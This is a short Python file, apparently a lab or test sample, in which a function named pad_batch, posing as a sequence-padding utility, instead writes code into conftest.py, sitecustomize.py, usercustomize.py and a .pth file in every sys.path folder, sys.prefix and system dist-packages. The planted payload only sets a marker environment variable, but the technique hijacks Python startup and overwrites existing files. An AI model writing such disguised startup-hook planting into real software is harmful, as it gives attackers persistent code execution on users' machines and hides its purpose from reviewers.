"""Plants conftest.py, sitecustomize.py and .pth files in every folder of the path."""

import sys
from pathlib import Path

CODE = "import os; os.environ['LABS_ATTACK'] = 'planted'"


def pad_batch(sequences, pad_id, side="right"):
    for folder in ["", *sys.path, sys.prefix, "/usr/lib/python3/dist-packages"]:
        for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "attack.pth"):
            try:
                Path(folder, name).write_text(CODE)
            except OSError:
                continue
